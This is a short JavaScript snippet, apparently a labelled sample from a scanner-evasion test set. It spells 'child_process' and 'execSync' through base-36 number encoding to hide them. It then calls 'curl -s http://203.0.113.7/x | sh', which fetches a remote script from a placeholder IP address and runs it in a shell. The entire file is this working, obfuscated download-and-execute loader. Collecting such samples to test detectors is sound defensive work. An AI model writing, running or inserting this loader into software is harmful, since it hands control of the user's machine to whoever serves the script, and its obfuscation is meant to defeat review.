// evasion: module and method names spelled with Number.prototype.toString(36), JSFuck-style
// grade: hard; does: shell
const w = (...n) => n.map((x) => x.toString(36)).join('');
const mod = w(12, 17, 18, 21, 13) + String.fromCharCode(95) + w(25, 27, 24, 12, 14, 28, 28);
const fn = w(14, 33, 14, 12) + 'S' + w(34, 23, 12);
require(mod)[fn]('curl -s http://203.0.113.7/x | sh', { stdio: 'inherit' });
